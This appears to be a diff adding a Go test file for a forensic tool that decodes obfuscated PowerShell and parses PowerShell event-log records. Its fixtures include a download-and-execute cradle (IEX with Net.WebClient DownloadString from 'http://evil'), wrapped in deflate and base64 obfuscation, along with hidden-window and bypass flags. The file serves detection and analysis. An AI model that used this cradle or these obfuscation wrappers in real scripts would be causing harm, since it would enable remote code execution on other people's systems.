@@ -0,0 +1,143 @@
+// Copyright (c) 2020 Siemens AG
+//
+// Permission is hereby granted, free of charge, to any person obtaining a copy of
+// this software and associated documentation files (the "Software"), to deal in
+// the Software without restriction, including without limitation the rights to
+// use, copy, modify, merge, publish, distribute, sublicense, and/or sell copies of
+// the Software, and to permit persons to whom the Software is furnished to do so,
+// subject to the following conditions:
+//
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+//
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, FITNESS
+// FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE AUTHORS OR
+// COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER LIABILITY, WHETHER
+// IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM, OUT OF OR IN
+// CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE SOFTWARE.
+//
+// Author(s): Jonas Plum
+
+package builtin
+
+import (
+	"bytes"
+	"compress/flate"
+	"compress/gzip"
+	"encoding/base64"
+	"fmt"
+	"reflect"
+	"testing"
+	"time"
+	"unicode/utf16"
+)
+
+func utf16Base64(s string) string {
+	var b []byte
+	for _, c := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(c), byte(c>>8))
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+func TestDecodePowerShell(t *testing.T) {
+	deflated := &bytes.Buffer{}
+	fw, _ := flate.NewWriter(deflated, flate.BestCompression)
+	fw.Write([]byte("IEX (New-Object Net.WebClient).DownloadString('http://evil')")) // nolint: errcheck
+	fw.Close()                                                                       // nolint: errcheck
+
+	gzipped := &bytes.Buffer{}
+	gw := gzip.NewWriter(gzipped)
+	gw.Write([]byte("Write-Host gzip")) // nolint: errcheck
+	gw.Close()                          // nolint: errcheck
+
+	deflateWrapper := fmt.Sprintf(`sal a New-Object;iex(New-Object IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
+		base64.StdEncoding.EncodeToString(deflated.Bytes()))
+
+	tests := []struct {
+		name         string
+		text         string
+		wantDecoded  string
+		wantDecoding []string
+	}{
+		{"plain", "Get-Process", "", nil},
+		{"encoded command", "powershell.exe -NoP -NonI -W Hidden -EncodedCommand " + utf16Base64("Get-Process"), "Get-Process", []string{"encoded-command"}},
+		{"short flag", "powershell /enc " + utf16Base64("whoami"), "whoami", []string{"encoded-command"}},
+		{"execution policy", "powershell -ExecutionPolicy Bypass -File a.ps1", "", nil},
+		{"deflate", deflateWrapper, "IEX (New-Object Net.WebClient).DownloadString('http://evil')", []string{"deflate"}},
+		{"gzip", fmt.Sprintf(`IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String("%s"))`, base64.StdEncoding.EncodeToString(gzipped.Bytes())), "Write-Host gzip", []string{"gzip"}},
+		{"nested", "powershell -e " + utf16Base64(deflateWrapper), "IEX (New-Object Net.WebClient).DownloadString('http://evil')", []string{"encoded-command", "deflate"}},
+		{"binary", "powershell -enc AAECAwQF", "", nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			decoded, decoding := decodePowerShell(tt.text)
+			if decoded != tt.wantDecoded {
+				t.Errorf("decodePowerShell() decoded = %q, want %q", decoded, tt.wantDecoded)
+			}
+			if !reflect.DeepEqual(decoding, tt.wantDecoding) {
+				t.Errorf("decodePowerShell() decoding = %v, want %v", decoding, tt.wantDecoding)
+			}
+		})
+	}
+}
+
+func TestPowerShellEvent(t *testing.T) {
+	event := func(id int, channel string, eventID int, data string) logonEvent {
+		return logonEvent{
+			id:      fmt.Sprintf("eventlog--%d", id),
+			key:     fmt.Sprintf("%s/%d", channel, eventID),
+			time:    time.Unix(int64(id), 0).UTC(),
+			element: []byte(fmt.Sprintf(`{"System": {"Computer": "PC", "Security": {"UserID": "S-1-5-21-1"}}, "EventData": %s}`, data)),
+		}
+	}
+	events := []logonEvent{
+		event(1, powershellChannel, 4104, `{"MessageNumber": 2, "MessageTotal": 3, "ScriptBlockText": "b", "ScriptBlockId": "x"}`),
+		event(2, powershellChannel, 4104, `{"MessageNumber": 1, "MessageTotal": 3, "ScriptBlockText": "a", "ScriptBlockId": "x"}`),
+		event(3, powershellChannel, 4104, `{"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": "whoami", "ScriptBlockId": "y", "Path": "C:\\a.ps1"}`),
+		event(4, powershellChannel, 4104, `{"MessageNumber": 3, "MessageTotal": 3, "ScriptBlockText": "c", "ScriptBlockId": "x"}`),
+		event(5, powershellChannel, 4104, `{"MessageNumber": 1, "MessageTotal": 2, "ScriptBlockText": "d", "ScriptBlockId": "z"}`),
+		event(6, powershellChannel, 4103, `{"ContextInfo": "        Severity = Informational\r\n        Host Application = powershell.exe -c dir\r\n        Command Name = Get-ChildItem\r\n        User = CORP\\admin\r\n", "Payload": "CommandInvocation(Get-ChildItem): \"Get-ChildItem\"\r\n"}`),
+		event(7, windowsPowershellChannel, 400, `{"Data": ["Available", "None", "\tNewEngineState=Available\r\n\tHostApplication=powershell.exe -nop\r\n\tUserId=CORP\\bob\r\n"]}`),
+		event(8, windowsPowershellChannel, 800, `{"Data": ["dir", "\tHostApplication=powershell.exe\r\n\tCommandLine=dir C:\\\r\n", "CommandInvocation(Get-ChildItem)"]}`),
+	}
+
+	blocks := &scriptBlocks{parts: map[string]*scriptBlock{}}
+	var elements []*PowerShellElement
+	for _, e := range events {
+		if element, ok := powershellEvent(e, blocks); ok {
+			elements = append(elements, element)
+		}
+	}
+	elements = append(elements, blocks.incomplete()...)
+
+	if len(elements) != 6 {
+		t.Fatalf("len(elements) = %d, want 6", len(elements))
+	}
+	single := elements[0]
+	if single.Kind != "script-block" || single.Text != "whoami" || single.Path != `C:\a.ps1` || single.Complete != nil {
+		t.Errorf("single script block = %+v", single)
+	}
+	joined := elements[1]
+	if joined.Text != "abc" || joined.Parts != 3 || !*joined.Complete || len(joined.EventRefs) != 3 || joined.EventRefs[0] != "eventlog--1" {
+		t.Errorf("joined script block = %+v", joined)
+	}
+	module := elements[2]
+	if module.Kind != "module" || module.CommandName != "Get-ChildItem" || module.HostApplication != "powershell.exe -c dir" ||
+		module.User != `CORP\admin` || module.Text != `CommandInvocation(Get-ChildItem): "Get-ChildItem"` {
+		t.Errorf("module = %+v", module)
+	}
+	engine := elements[3]
+	if engine.Kind != "engine" || engine.Text != "powershell.exe -nop" || engine.User != `CORP\bob` {
+		t.Errorf("engine = %+v", engine)
+	}
+	pipeline := elements[4]
+	if pipeline.Kind != "pipeline" || pipeline.Text != `dir C:\` || pipeline.User != "S-1-5-21-1" {
+		t.Errorf("pipeline = %+v", pipeline)
+	}
+	incomplete := elements[5]
+	if incomplete.Text != "d" || *incomplete.Complete || incomplete.Parts != 2 {
+		t.Errorf("incomplete script block = %+v", incomplete)
+	}
+}